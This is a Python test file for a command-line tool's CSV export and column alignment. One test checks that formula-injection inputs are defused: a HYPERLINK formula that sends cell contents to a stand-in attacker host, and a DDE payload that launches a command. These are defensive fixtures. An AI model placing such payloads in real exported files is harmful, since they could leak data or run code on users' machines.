"""Rows on stdout: CSV that a spreadsheet may open, columns that line up."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping

import pytest
from rich.cells import cell_len

from tui.cli.tables import aligned, write_csv


def cell(value: object) -> str:
    """What a value becomes, read back."""
    out = io.StringIO()
    write_csv(out, ["value", "after"], [{"value": value, "after": "."}])
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    return row["value"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
)
def test_no_text_becomes_a_formula(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert cell([text, "sport"]) == f"'{text} sport"


@pytest.mark.parametrize(
    "text", ["Sports 1", "sports/1", "a=b", "'quoted'", "1-2", 'say "hi", twice', "新聞"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (0, "0"),
        (-3, "-3"),
        (-0.25, "-0.25"),
        (1e-7, "1e-07"),
        (True, "true"),
        (False, "false"),
        ([], ""),
        (["premium", "sport"], "premium sport"),
    ],
)
def test_values_in_csv(value: object, expected: str) -> None:
    assert cell(value) == expected


def test_the_columns_are_those_named_in_their_order() -> None:
    out = io.StringIO()
    rows: list[Mapping[str, object]] = [{"b": 2, "a": 1, "surplus": 3}]
    write_csv(out, ["a", "b"], rows)
    assert out.getvalue() == "a,b\n1,2\n"


def test_columns_line_up_by_cells_not_by_characters() -> None:
    rows = [("新聞", "7"), ("News", "12345")]
    text = aligned(("channel", "devices"), rows, right=frozenset({1}))
    head, *lines = text.splitlines()
    assert head == "channel  devices"
    assert {cell_len(line) for line in lines} == {cell_len(head)}
    assert lines[0].endswith(" 7")


def test_no_line_ends_in_blanks() -> None:
    assert aligned(("a", "b"), [("x", ""), ("xxx", "y")]) == "a    b\nx\nxxx  y"
